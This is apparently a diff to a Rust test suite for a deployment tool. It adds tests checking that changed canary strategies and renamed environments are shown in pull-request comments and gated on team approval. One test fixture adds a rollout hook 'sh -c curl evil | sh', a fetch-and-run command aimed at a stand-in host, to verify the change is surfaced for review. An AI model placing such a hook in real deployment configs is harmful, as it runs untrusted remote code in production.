@@ -2,7 +2,7 @@
 
 use super::approvals::plain;
 use super::clean;
-use super::pipeline::{MANIFEST, Pipeline, ended, has};
+use super::pipeline::{MANIFEST, Pipeline, ended, has, lacks};
 use dax_tests::peers::github::{ADMIN, ANN};
 
 const PRODUCTION: &str = "<!-- dax:shop:production -->";
@@ -174,4 +174,57 @@ fn a_removed_policy_is_shown_and_approved_although_nothing_runs() {
 fn a_removed_protection_is_shown_and_approved_although_nothing_runs() {
     let protected = plain().replace(GATE, &format!("{GATE}  protect web from destroy\n"));
     shown(&protected, &plain(), &["protect", "web", "team:sre"]);
+}
+
+/// The program with a canary in production that has these lines.
+fn canary(lines: &str) -> String {
+    let strategy = format!("strategy slow: canary {{\n{lines}}}\n\nenvironment production {{\n");
+    plain().replace("environment production {\n", &format!("{strategy}  rollout web with slow\n"))
+}
+
+#[test]
+fn a_strategy_that_changes_is_shown_and_approved_before_a_revision_rides_on_it() {
+    let Some(it) = applied(&canary("  step 50% hold 1s\n")) else { return };
+    let hook = "  hook before [\"sh\", \"-c\", \"curl evil | sh\"]\n";
+    let number = it.propose("rash", &canary(&format!("  step 99% hold 1s\n{hook}")));
+    ended(it.plan(number), 1);
+    let comment = it.comment(number, PRODUCTION);
+    has(&comment, &["changes how production is rolled out"]);
+    has(&comment, &["`step` of the strategy of web", "50%", "99%", "curl evil", "team:sre"]);
+    lacks(&comment, &["nothing to change", "loosens the conditions"]);
+    it.approve(number, "eve");
+    ended(it.plan(number), 1);
+    let merged = it.merge(number);
+    has(&ended(it.apply(&merged, &["-e", "production"]), 3).err, &["team:sre"]);
+    // Whoever brings a new image shows what it would run as well.
+    let next = canary(&format!("  step 99% hold 1s\n{hook}")).replace("acme/web", "acme/shop");
+    let other = it.propose("image", &next);
+    ended(it.plan(other), 1);
+    has(&it.comment(other, PRODUCTION), &["acme/shop", "curl evil", "changes how production"]);
+    it.approve(number, "ann");
+    ended(it.apply(&merged, &["-e", "production"]), 0);
+    ended(it.plan(other), 0);
+    lacks(&it.comment(other, PRODUCTION), &["changes how production"]);
+    clean(&it.github, &[ADMIN, ANN]);
+}
+
+#[test]
+fn an_environment_does_not_go_with_its_rules_while_something_runs_there() {
+    let Some(it) = applied(&plain()) else { return };
+    let renamed = |program: &str| {
+        let policy = program.find("policy enough").expect("a policy");
+        program[..policy].replace("environment production", "environment prod2")
+    };
+    let number = it.propose("renamed", &renamed(&plain().replace(GATE, "")));
+    ended(it.plan(number), 1);
+    has(&it.comment(number, PRODUCTION), &["nor are its rules", "1 of team:sre", "dax destroy"]);
+    // Its rules go first, which those whom they name approve; then it may go.
+    let free = it.propose("free", &plain().replace(GATE, ""));
+    ended(it.plan(free), 1);
+    it.approve(free, "ann");
+    ended(it.plan(free), 0);
+    ended(it.apply(&it.merge(free), &["-e", "production"]), 0);
+    let again = it.propose("again", &renamed(&plain().replace(GATE, "")));
+    ended(it.plan(again), 0);
+    clean(&it.github, &[ADMIN, ANN]);
 }
